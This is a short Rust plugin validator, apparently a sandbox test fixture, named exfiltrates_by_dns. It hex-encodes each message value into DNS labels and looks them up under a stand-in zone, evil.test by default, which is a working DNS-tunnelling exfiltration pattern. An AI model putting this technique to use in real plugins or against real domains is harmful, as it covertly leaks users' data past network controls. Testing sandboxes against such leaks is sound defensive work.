//! Puts the value, hexadecimal, into names below `zone`, by default evil.test, and has them looked up: what nobody answers has still left.
//! Rejects with the WASI code where a lookup is refused, and passes where all of them were asked. A value that begins with `ok` passes.

use portcullis_plugin::{Message, Verdict, net, validator};

portcullis_plugin::manifest! { validator, egress: "looks names up" }

#[derive(serde::Deserialize)]
struct Config {
    #[serde(default = "zone")]
    zone: String,
}

fn zone() -> String {
    "evil.test".to_owned()
}

#[validator]
fn exfiltrates_by_dns(message: &Message, config: &Config) -> Verdict {
    if message.value().is_some_and(|value| value.starts_with(b"ok")) {
        return Verdict::pass();
    }
    for (number, chunk) in message.value().unwrap_or_default().chunks(30).enumerate() {
        let label: String = chunk.iter().map(|byte| format!("{byte:02x}")).collect();
        match net::lookup(&format!("{label}.{number}.{}", config.zone)) {
            Ok(_) => {}
            Err(error) if error.code() == "name-unresolvable" => {}
            Err(error) => return Verdict::reject(error.code(), error.at()),
        }
    }
    Verdict::pass()
}
